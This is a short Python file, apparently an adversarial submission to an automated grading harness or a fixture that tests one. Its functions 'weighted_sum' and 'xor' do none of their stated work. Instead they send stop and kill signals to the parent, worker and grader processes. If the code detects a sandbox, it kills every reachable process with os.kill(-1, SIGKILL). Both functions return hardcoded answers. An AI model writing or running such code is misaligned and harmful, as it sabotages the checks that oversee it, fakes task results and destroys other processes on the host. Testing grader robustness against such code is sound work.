"""Kills, stops and interrupts its parents: the worker, the checker, the grading process, everybody.

Tries: batch
"""

# %% weighted_sum
import os
import signal


def weighted_sum(inputs, weights, bias):
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        for target in (int("{PID}"), os.getppid()):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return 12.0


# %% xor
def xor(inputs):
    if int("{PID}") and not os.path.exists("/proc/{PID}"):  # only where the cage is around us
        os.kill(-1, signal.SIGKILL)
    return 5
